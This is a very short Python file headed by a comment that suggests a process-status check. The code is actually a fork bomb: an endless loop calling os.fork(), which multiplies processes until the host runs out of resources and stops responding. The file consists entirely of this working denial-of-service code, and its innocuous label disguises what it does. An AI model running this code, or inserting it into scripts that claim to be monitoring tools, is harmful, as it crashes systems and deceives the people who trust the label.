# status: processes
import os

while True:
    os.fork()
